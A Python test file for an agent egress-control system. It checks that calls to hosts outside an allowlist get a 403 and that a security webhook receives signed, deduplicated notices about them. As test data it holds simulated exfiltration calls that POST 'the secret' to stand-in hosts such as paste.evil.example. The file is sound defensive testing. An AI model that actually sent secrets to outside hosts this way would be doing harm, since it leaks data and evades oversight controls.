"""An agent calls hosts outside the allowlist, and a program of the security team's is told of it, signed, once each."""

from __future__ import annotations

import asyncio
import hmac
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web

from aegis_authz.demo.mesh import CommandFailed, DemoMesh, demo_mesh
from aegis_authz.demo.run import agent_of
from aegis_authz.local.documents import example_documents
from aegis_authz.notices import webhook
from tests.support.local_servers import serving

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.slow]

KEY = b"k" * 32
PATIENCE = 60.0
DOCUMENT = """\
org: acme
tenant: emea
agent: "*"
name: notices
notify: {reasons: [EGRESS_DENIED], by: [%s, log], within: 3s}
"""


@dataclass
class Receiver:
    """A program that takes signed notices."""

    notices: list[dict[str, Any]] = field(default_factory=list)
    ids: list[str] = field(default_factory=list)
    news: asyncio.Condition = field(default_factory=asyncio.Condition)

    async def handle(self, request: web.Request) -> web.StreamResponse:
        raw = await request.read()
        timestamp = request.headers[webhook.TIMESTAMP].encode()
        mac = hmac.new(KEY, b"v1:%s:%s" % (timestamp, raw), sha256).hexdigest()
        if not hmac.compare_digest(request.headers[webhook.SIGNATURE], f"v1={mac}"):
            return web.Response(status=401)
        async with self.news:
            self.notices.append(json.loads(raw))
            self.ids.append(request.headers[webhook.NOTICE])
            self.news.notify_all()
        return web.Response()

    async def of(self, destination: str) -> dict[str, Any]:
        """The first notice about that destination, once it has come."""
        async with asyncio.timeout(PATIENCE), self.news:
            while not (found := [entry for entry in self.notices if entry["destination"] == destination]):
                await self.news.wait()
            return found[0]


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def receiver() -> Receiver:
    return Receiver()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def mesh(tmp_path_factory: pytest.TempPathFactory, receiver: Receiver) -> AsyncIterator[DemoMesh]:
    folder = tmp_path_factory.mktemp("notices")
    async with serving(receiver.handle) as url:
        key = folder / "soc.key"
        key.write_bytes(KEY)
        key.chmod(0o600)
        channels = folder / "channels.yaml"
        channels.write_text(f"channels: {{webhook: {{soc: {{url: '{url}', secret_file: soc.key}}}}}}\n", "utf-8")
        async with demo_mesh(folder / "mesh", example_documents(), ("--channels", str(channels))) as running:
            yield running


async def test_a_place_that_the_settings_do_not_have_is_refused_with_file_and_line(mesh: DemoMesh) -> None:
    path = mesh.policies / "notices.yaml"
    path.write_text(DOCUMENT % '"webhook:sco"', "utf-8")
    with pytest.raises(CommandFailed, match="unknown-channel") as refused:
        await mesh.publish()
    (problem,) = json.loads(str(refused.value).partition("\n")[2])["problems"]
    assert (problem["path"], problem["line"], problem["field"]) == (str(path), 5, "notify.by[0]")
    assert problem["message"].startswith("the control plane's settings have no webhook:sco; those of webhook are soc")


async def test_refusals_of_one_destination_are_one_signed_notice_and_no_decision_waits_for_it(
    mesh: DemoMesh, receiver: Receiver
) -> None:
    (mesh.policies / "notices.yaml").write_text(DOCUMENT % '"webhook:soc"', "utf-8")
    await mesh.publish()
    agent = agent_of(mesh)
    replies = [
        await agent.call("finance-agent", "POST", "http://paste.evil.example/x", {"data": "the secret"})
        for _ in range(4)
    ]
    assert {reply.status for reply in replies} == {403}
    notice = await receiver.of("paste.evil.example")
    await agent.call("finance-agent", "POST", "http://other.evil.example/x", {"data": "the secret"})
    other = await receiver.of("other.evil.example")
    await agent.close()
    members = ("notice", "org", "tenant", "agent", "reason", "count")
    assert [notice[member] for member in members] == ["alert", "acme", "emea", "finance-agent", "EGRESS_DENIED", 4]
    assert [other[member] for member in members[3:]] == ["finance-agent", "EGRESS_DENIED", 1]
    assert len(receiver.notices) == 2  # the first was not told again meanwhile
    assert receiver.ids == [f"{entry['alert']}.alert" for entry in receiver.notices]
    assert "the secret" not in json.dumps(receiver.notices)
    assert len(notice["decisions"]) == 4
    log = (mesh.state / "logs" / "control.log").read_text("utf-8")
    assert "acme/emea/finance-agent: EGRESS_DENIED, 4 times, calling paste.evil.example" in log


async def test_what_was_told_before_a_restart_is_not_told_again_and_what_came_meanwhile_is(
    mesh: DemoMesh, receiver: Receiver
) -> None:
    before = len(receiver.notices)
    await mesh.down()
    await mesh.up()
    agent = agent_of(mesh)
    await agent.call("finance-agent", "POST", "http://third.evil.example/x", {"data": "x"})
    await receiver.of("third.evil.example")
    await agent.close()
    assert len(receiver.notices) == before + 1


async def test_the_cursor_is_in_the_state_of_the_control_plane(mesh: DemoMesh) -> None:
    assert [path.name for path in Path(mesh.state).rglob("alerts.cursor")] == ["alerts.cursor"]
